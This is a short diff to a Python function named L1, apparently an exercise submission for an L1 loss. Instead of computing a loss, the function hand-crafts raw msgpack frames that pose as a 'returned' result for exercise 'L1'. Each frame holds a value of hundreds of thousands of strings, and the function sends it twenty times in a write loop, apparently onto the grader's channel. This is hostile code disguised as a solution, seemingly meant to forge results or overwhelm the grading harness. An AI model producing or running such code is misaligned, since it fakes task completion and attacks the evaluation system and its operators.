@@ -5,8 +5,9 @@
 import os
 
 def L1(yhat, y):
-    body = b"\x83\xa4type\xa8returned\xa8exercise\xa2L1\xa5value\x83\xa4type\xa5items\xa4kind\xa4list\xa6values"
-    body += b"\xdd" + (600_000).to_bytes(4, "big") + b"\xa2ab" * 600_000
+    head = b"\x83\xa4type\xa5items\xa4kind\xa4list\xa6values"
+    texts = head + b"\xdd" + (99_000).to_bytes(4, "big") + b"\xa2ab" * 99_000
+    body = b"\x83\xa4type\xa8returned\xa8exercise\xa2L1\xa5value" + head + b"\x96" + texts * 6
     for _ in range(20):
         left = memoryview(len(body).to_bytes(4, "big") + body)
         while left:
